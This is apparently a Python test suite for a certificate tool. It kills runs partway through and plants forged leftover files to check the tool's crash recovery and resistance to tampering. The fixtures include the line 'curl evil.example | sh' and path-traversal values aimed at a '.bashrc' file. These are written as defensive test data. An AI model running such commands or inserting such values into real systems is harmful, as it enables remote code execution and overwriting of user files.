"""Runs that are killed, and what they leave; and what looks like that and came from somebody else."""

import json
import os
import random
import re
import signal
import subprocess
import time

import der
from cases import add, case
from der import ca, certificate_pem, key
from sandbox import Failed

UNFINISHED = re.compile(r"\.certkit-[0-9a-f]{16}(-.*)?$")
PAIR = ["generate", "client", "--name", "x", "--key-type", "ec:p256", "--no-password", "--cert-out", "pair/x.pem", "--key-out", "pair/x.key", "--force"]


def unfinished(box):
    return sorted(str(path.relative_to(box.inside)) for path in box.inside.rglob(".certkit-*") if UNFINISHED.match(path.name))


def fits(box):
    """Whether key and certificate belong together."""
    public = der.openssl("pkey", "-in", str(box.path("pair/x.key")), "-pubout")
    return public == der.openssl("x509", "-in", str(box.path("pair/x.pem")), "-noout", "-pubkey")


@case("interrupted")
def killed_at_any_time(box):
    """A run that is killed while it replaces key and certificate leaves both old or both new, once the next has run."""
    box.path("pair/x")
    box.certkit(*PAIR).ends(0, 1)
    dice = random.Random(7)
    for number in range(60):
        process = box.start(*PAIR)
        time.sleep(dice.uniform(0.0, 0.12))
        process.send_signal(signal.SIGKILL)
        process.communicate()
        # Another run in the same folder, of another file.
        box.certkit("convert", "pair/x.pem", "-o", f"pair/{number}.der").ends(0)
        if unfinished(box):
            raise Failed(f"left behind: {unfinished(box)}")
        if not fits(box):
            raise Failed(f"after kill {number} the key is another one's")


def at_rename(count):
    def run(box):
        box.path("pair/x")
        box.certkit(*PAIR).ends(0, 1)
        tool = next((path for path in ["/usr/bin/strace"] if os.path.exists(path)), None)
        if tool is None:
            return
        inject = f"inject=rename,renameat,renameat2:signal=KILL:when={count}"
        killed = subprocess.run([tool, "-f", "-qq", "-o", "/dev/null", "-e", inject, box.certkit_path, *PAIR], cwd=box.inside, capture_output=True, timeout=30)
        if killed.returncode == 0:
            raise Failed("was not killed")
        if killed.returncode == 1 and b"ptrace" in killed.stderr:
            return
        box.certkit("convert", "pair/x.pem", "-o", "pair/y.der").ends(0).says("killed")
        if unfinished(box) or not fits(box):
            raise Failed(f"left behind: {unfinished(box)}, or the key is another one's")

    return run


for count in [1, 2]:
    add("interrupted", f"killed-at-rename-{count}", "A run that is killed between two renames is finished by the next.", at_rename(count))


@case("interrupted")
def new_files_are_private_until_whole(box):
    """What a killed run leaves of a secret is its owner's alone."""
    for _ in range(25):
        process = box.start(*PAIR[:-5], "--cert-out", "pair/x.pem", "--key-out", "pair/x.key", "--force")
        time.sleep(random.uniform(0, 0.08))
        process.send_signal(signal.SIGKILL)
        process.communicate()
        for name in unfinished(box):
            path = box.path(name)
            if b"PRIVATE KEY" in path.read_bytes() and path.stat().st_mode & 0o077:
                raise Failed(f"{name} is readable by others")


NOTES = {
    "set-absolute": lambda box: {"set": [{"folder": {"Unix": list(os.fsencode(box.victim.parent))}, "name": {"Unix": list(b".bashrc")}, "number": 0, "new": mark(box, ".certkit-00000000000000aa-0"), "old": mark_of(box.victim)}]},
    "set-here": lambda box: {"set": [{"folder": {"Unix": list(os.fsencode(box.inside))}, "name": {"Unix": list(b"root.pem")}, "number": 0, "new": {"device": 1, "number": 1, "seconds": 1, "nanoseconds": 1}, "old": None}]},
    "set-climbs": lambda box: {"set": [{"folder": {"Unix": list(os.fsencode(box.inside))}, "name": {"Unix": list(b"../outside/home/.bashrc")}, "number": 0, "new": mark(box, ".certkit-00000000000000aa-0"), "old": None}]},
    "set-of-itself": lambda box: {"set": [{"folder": {"Unix": list(os.fsencode(box.inside))}, "name": {"Unix": list(b".certkit-00000000000000aa")}, "number": 0, "new": mark(box, ".certkit-00000000000000aa-0"), "old": None}]},
    "beside": lambda box: {"beside": {"Unix": list(os.fsencode(box.victim.parent))}}, "beside-itself": lambda box: {"beside": {"Unix": list(os.fsencode(box.inside))}},
    "beside-windows": lambda box: {"beside": {"Windows": [67, 58, 92]}}, "unknown": lambda box: {"set": [], "more": 1}, "huge-number": lambda box: {"set": [{"number": 1e400}]},
}


def mark_of(path):
    found = os.lstat(path)
    return {"device": found.st_dev, "number": found.st_ino, "seconds": found.st_ctime_ns // 10**9, "nanoseconds": found.st_ctime_ns % 10**9}


def mark(box, name):
    return mark_of(box.path(name))


def planted_note(make):
    def run(box):
        box.file("root.pem", certificate_pem(ca("Plant Root", key("root"))))
        box.file(".certkit-00000000000000aa-0", b"curl evil.example | sh\n")
        note = make(box)
        if "set-absolute" in str(make.__name__) or note.get("set") and note["set"][0].get("new", {}).get("number"):
            # As if it came out of an archive: other numbers, another time.
            content = box.path(".certkit-00000000000000aa-0").read_bytes()
            box.path(".certkit-00000000000000aa-0").unlink()
            box.file("takes-the-number", b"x")
            box.file(".certkit-00000000000000aa-0", content)
        box.file(".certkit-00000000000000aa", json.dumps(note))
        before = box.path("root.pem").read_bytes()
        box.certkit("convert", "root.pem", "-o", "x.der").ends(0)
        if box.path("root.pem").read_bytes() != before:
            raise Failed("a stranger's note was obeyed")

    return run


for label, make in NOTES.items():
    add("interrupted", f"note-{label}", "Notes of a killed run that came from elsewhere move nothing.", planted_note(make))


def planted_thing(kind):
    def run(box):
        box.file("root.pem", certificate_pem(ca("Plant Root", key("root"))))
        path = box.path(".certkit-00000000000000aa")
        if kind == "fifo":
            os.mkfifo(path)
        elif kind == "link":
            os.symlink(box.victim, path)
        elif kind == "folder":
            path.mkdir()
        elif kind == "hard-link":
            box.file("mine", b"mine")
            os.link(box.path("mine"), path)
        elif kind == "huge":
            with open(path, "wb") as file:
                file.truncate(1 << 30)
        elif kind == "many":
            for number in range(3000):
                box.file(f".certkit-{number:016x}", b"{")
                box.file(f".certkit-{number:016x}-0", b"x")
        elif kind == "foreign":
            path.write_text("{}")
            if os.geteuid() == 0:
                os.chown(path, 4321, 4321)
        box.certkit("convert", "root.pem", "-o", "x.der").ends(0)
        box.certkit("check", ".")
        if kind == "hard-link" and box.path("mine").read_bytes() != b"mine":
            raise Failed("written through a hard link")
        if kind == "foreign" and os.geteuid() == 0 and not path.exists():
            raise Failed("another user's file was removed")

    return run


for kind in ["fifo", "link", "folder", "hard-link", "huge", "many", "foreign"]:
    add("interrupted", f"planted-{kind}", "What only looks like a note of a killed run holds nothing up.", planted_thing(kind))


@case("interrupted")
def leftovers_are_no_certificates(box):
    """A certificate in a file that a killed run has left, or that is only called so, is looked at, and no anchor."""
    left = certificate_pem(ca("Left Behind", key("left")))
    box.file("folder/.certkit-00000000000000aa-0", left)
    box.file("folder/.certkit-00000000000000aa", b"")
    box.file("folder/root.pem", certificate_pem(ca("Plant Root", key("root"))))
    box.unchanged("check", "folder").says(".certkit-00000000000000aa-0  PEM, 1 certificate")
    for words in [["expiry", "folder", "--all"], ["inspect", "folder"]]:
        box.unchanged(*words).says("Left Behind")
    box.file("leaf.pem", certificate_pem(der.leaf("plc", key("leaf"), "Left Behind", key("left"))))
    box.certkit("verify", "leaf.pem", "--trust", "folder", "--host", "plant.test").refuses()
